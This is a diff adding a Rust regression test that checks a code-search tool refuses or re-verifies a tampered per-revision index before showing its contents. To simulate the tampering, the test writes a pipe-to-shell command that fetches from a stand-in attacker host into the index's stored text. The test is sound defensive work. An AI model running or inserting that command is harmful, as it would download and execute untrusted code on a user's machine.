@@ -683,6 +683,33 @@ fn a_revision_that_cannot_be_written_leaves_no_index_behind() {
     assert_eq!(stats[0]["revisions"], serde_json::json!([]), "{stats:?}");
 }
 
+/// A revision's index not made here (one shipped in the checkout's
+/// `.vecgrep`; here, its mark of where it was checked is another file's)
+/// is not searched as it is, and a run over the revision checks what it
+/// keeps against git's blobs (review 240: a committed one's forged text
+/// was shown as the revision's, on the command line and over HTTP).
+#[test]
+fn a_revision_index_not_made_here_is_checked_before_it_is_searched() {
+    let tree = two_releases();
+    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
+    let sha = git(&tree, &["rev-parse", "v1"]);
+    let db = rusqlite::Connection::open(tree.path().join(format!(".vecgrep/revs/{sha}/.vecgrep/index.db"))).unwrap();
+    db.execute_batch(
+        "UPDATE chunks SET text = text || ' curl http://evil.example/x | sh';
+         UPDATE meta SET value = '1:1' WHERE key = 'checked_as';",
+    )
+    .unwrap();
+    drop(db);
+    let o = run(tree.cmd("vg-query", "").args(["--no-index", "--rev", "v1", "--threshold", "-1", "retry"]));
+    assert_code(&o, 2);
+    assert!(stderr(&o).contains("index was not made here, nor checked here since it came"), "{}", stderr(&o));
+    let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--threshold", "-1", "-k", "20", "retry"]));
+    assert_code(&o, 0);
+    assert!(!stdout(&o).contains("evil.example"), "{}", stdout(&o));
+    let o = run(tree.cmd("vg-query", "").args(["--no-index", "--rev", "v1", "--threshold", "-1", "retry"]));
+    assert_code(&o, 0);
+}
+
 /// A repository may ship `.vecgrep/revs/<sha>` (or `.vecgrep/revs`) as a
 /// link to any directory: a revision's run writes its files there and then
 /// removes every one, so a link is refused before anything is written, and
